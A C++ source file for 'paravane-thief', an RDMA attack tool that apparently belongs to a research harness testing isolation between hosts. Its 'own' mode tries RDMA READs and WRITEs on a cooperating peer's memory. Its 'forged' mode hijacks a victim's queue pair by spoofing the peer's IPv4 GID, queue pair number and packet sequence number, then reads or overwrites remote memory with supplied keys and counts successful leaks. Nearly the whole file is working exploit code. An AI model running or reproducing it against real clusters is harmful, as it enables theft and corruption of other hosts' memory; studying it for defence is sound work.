// paravane-thief: READs and WRITEs memory of another host with keys that it was given, over RC
// queue pairs. It is a program of its own: of a trunk it knows what goes between two adapters.
//
//   paravane-thief DEVICE own PORT ADDRESS KEY...
//     It is the other end of a trunk's queue pair, as the peer's host may be (trunk_prey.cc).
//   paravane-thief DEVICE forged PEER QPN PSN AT KEY...
//     The queue pair with that number, of the host with the IPv4 address PEER, has another peer in
//     this host. Packets come from the same adapter, with the number that is expected next.
//
// An error ends a queue pair, so each try has a fresh one. Prints one line of JSON: what the tries
// ended with, and in how many of them something of the other's memory came here.

#include <arpa/inet.h>
#include <infiniband/verbs.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "keyhole.h"
#include "rendezvous.h"

namespace {

using guest::die;
using guest::Seat;

constexpr std::uint8_t kPort = 1;
constexpr std::uint32_t kPsn = 0x123456;
constexpr std::uint32_t kBytes = 4096;
constexpr std::uint8_t kFill = 0xA7;
constexpr std::chrono::seconds kPatience{20};

ibv_context* open_device(const std::string& name) {
  int count = 0;
  ibv_device** devices = ibv_get_device_list(&count);
  for (int i = 0; i < count; ++i) {
    if (name == ibv_get_device_name(devices[i])) return ibv_open_device(devices[i]);
  }
  die("no RDMA device " + name);
}

// The first GID that is an IPv4 address: ::ffff:A.B.C.D.
int gid_index_of(ibv_context* context, ibv_gid& gid) {
  constexpr std::array<std::uint8_t, 12> kIpv4{0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xFF};
  for (int index = 0; index < 16; ++index) {
    if (ibv_query_gid(context, kPort, index, &gid) != 0) break;
    if (std::equal(kIpv4.begin(), kIpv4.end(), gid.raw)) return index;
  }
  die("no GID of an IPv4 address");
}

class Thief {
 public:
  explicit Thief(const std::string& device) : context_(open_device(device)), loot_(kBytes) {
    if (context_ == nullptr) die("ibv_open_device");
    gid_index_ = gid_index_of(context_, gid_);
    domain_ = ibv_alloc_pd(context_);
    queue_ = ibv_create_cq(context_, 16, nullptr, nullptr, 0);
    region_ = ibv_reg_mr(domain_, loot_.data(), loot_.size(), IBV_ACCESS_LOCAL_WRITE);
    if (region_ == nullptr || queue_ == nullptr) die("the adapter gives no memory or no queue");
  }

  Seat make_queue_pair() {
    ibv_qp_init_attr init{};
    init.send_cq = init.recv_cq = queue_;
    init.qp_type = IBV_QPT_RC;
    init.cap = {.max_send_wr = 4,
                .max_recv_wr = 4,
                .max_send_sge = 1,
                .max_recv_sge = 1,
                .max_inline_data = 0};
    qp_ = ibv_create_qp(domain_, &init);
    if (qp_ == nullptr) die("ibv_create_qp");
    ibv_qp_attr attributes{};
    attributes.qp_state = IBV_QPS_INIT;
    attributes.port_num = kPort;
    modify(attributes, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS);
    Seat seat{.qpn = qp_->qp_num, .psn = kPsn};
    std::copy(std::begin(gid_.raw), std::end(gid_.raw), seat.gid.begin());
    return seat;
  }

  // `psn`: of the first packet that goes.
  void connect(const Seat& other, std::uint32_t psn) {
    ibv_qp_attr attributes{};
    attributes.qp_state = IBV_QPS_RTR;
    attributes.path_mtu = IBV_MTU_1024;
    static_assert(guest::kPathMtuBytes == 1024);
    attributes.dest_qp_num = other.qpn;
    attributes.rq_psn = other.psn;
    attributes.min_rnr_timer = 12;
    attributes.ah_attr.is_global = 1;
    attributes.ah_attr.port_num = kPort;
    std::copy(other.gid.begin(), other.gid.end(), attributes.ah_attr.grh.dgid.raw);
    attributes.ah_attr.grh.sgid_index = static_cast<std::uint8_t>(gid_index_);
    attributes.ah_attr.grh.hop_limit = 64;
    modify(attributes, IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN |
                           IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER);
    attributes = {};
    attributes.qp_state = IBV_QPS_RTS;
    attributes.sq_psn = psn;
    attributes.timeout = 14;
    attributes.retry_cnt = 2;
    attributes.max_rd_atomic = 1;
    modify(attributes, IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY |
                           IBV_QP_SQ_PSN | IBV_QP_MAX_QP_RD_ATOMIC);
  }

  void try_it(ibv_wr_opcode opcode, std::uint64_t at, std::uint32_t key) {
    std::fill(loot_.begin(), loot_.end(), kFill);
    ibv_sge place{.addr = reinterpret_cast<std::uintptr_t>(loot_.data()),
                  .length = kBytes,
                  .lkey = region_->lkey};
    ibv_send_wr request{};
    request.sg_list = &place;
    request.num_sge = 1;
    request.opcode = opcode;
    request.send_flags = IBV_SEND_SIGNALED;
    request.wr.rdma.remote_addr = at;
    request.wr.rdma.rkey = key;
    ibv_send_wr* refused = nullptr;
    if (ibv_post_send(qp_, &request, &refused) != 0) die("ibv_post_send");
    ++tries_;
    const std::string what = opcode == IBV_WR_RDMA_READ ? "READ: " : "WRITE: ";
    ++ended_[what + ibv_wc_status_str(wait().status)];
    if (std::any_of(loot_.begin(), loot_.end(), [](std::uint8_t b) { return b != kFill; }))
      ++learned_;
  }

  void end_queue_pair() { ibv_destroy_qp(qp_); }

  void print() const {
    std::printf(R"({"tries": %u, "learned": %u, "ended": {)", tries_, learned_);
    const char* comma = "";
    for (const auto& [how, count] : ended_) {
      std::printf(R"(%s"%s": %u)", comma, how.c_str(), count);
      comma = ", ";
    }
    std::printf("}}\n");
  }

 private:
  void modify(ibv_qp_attr attributes, int mask) const {
    if (ibv_modify_qp(qp_, &attributes, mask) != 0) die("ibv_modify_qp");
  }

  ibv_wc wait() const {
    const auto end = std::chrono::steady_clock::now() + kPatience;
    ibv_wc completion{};
    while (ibv_poll_cq(queue_, 1, &completion) == 0) {
      if (std::chrono::steady_clock::now() > end) die("no completion");
    }
    return completion;
  }

  ibv_context* context_;
  std::vector<std::uint8_t> loot_;
  ibv_gid gid_{};
  int gid_index_ = 0;
  ibv_pd* domain_ = nullptr;
  ibv_cq* queue_ = nullptr;
  ibv_mr* region_ = nullptr;
  ibv_qp* qp_ = nullptr;
  unsigned tries_ = 0;
  unsigned learned_ = 0;
  std::map<std::string, unsigned> ended_;
};

std::uint64_t number(const char* word) {
  return std::strtoull(word, nullptr, 0);
}

using Words = std::vector<const char*>;
constexpr std::array kOpcodes{IBV_WR_RDMA_READ, IBV_WR_RDMA_WRITE};

void be_the_other_end(Thief& thief, const Words& words) {
  guest::Rendezvous prey =
      guest::Rendezvous::reach(words[1], static_cast<std::uint16_t>(number(words[0])));
  for (auto key = words.begin() + 2; key != words.end(); ++key) {
    for (const ibv_wr_opcode opcode : kOpcodes) {
      prey.tell(true);
      const Seat other = prey.hear<Seat>();
      prey.tell(thief.make_queue_pair());
      thief.connect(other, kPsn);
      prey.hear<bool>();  // it is connected as well
      thief.try_it(opcode, opcode == IBV_WR_RDMA_READ ? other.secret : other.target,
                   static_cast<std::uint32_t>(number(*key)));
      prey.tell(true);
      thief.end_queue_pair();
    }
  }
  prey.tell(false);
}

void forge(Thief& thief, const Words& words) {
  Seat victim{.qpn = static_cast<std::uint32_t>(number(words[1]))};
  victim.gid[10] = victim.gid[11] = 0xFF;
  if (inet_pton(AF_INET, words[0], &victim.gid[12]) != 1) die("not an IPv4 address");
  for (auto key = words.begin() + 4; key != words.end(); ++key) {
    for (const ibv_wr_opcode opcode : kOpcodes) {
      thief.make_queue_pair();
      thief.connect(victim, static_cast<std::uint32_t>(number(words[2])));
      thief.try_it(opcode, number(words[3]), static_cast<std::uint32_t>(number(*key)));
      thief.end_queue_pair();
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  const std::string how = argc > 2 ? argv[2] : "";
  const Words words(argv + std::min(argc, 3), argv + argc);
  const bool is_own = how == "own" && words.size() > 2;
  const bool is_forged = how == "forged" && words.size() > 4;
  if (!is_own && !is_forged)
    die("usage: paravane-thief DEVICE own PORT ADDRESS KEY... | forged PEER QPN PSN AT KEY...");
  Thief thief(argv[1]);
  is_own ? be_the_other_end(thief, words) : forge(thief, words);
  thief.print();
  return 0;
}
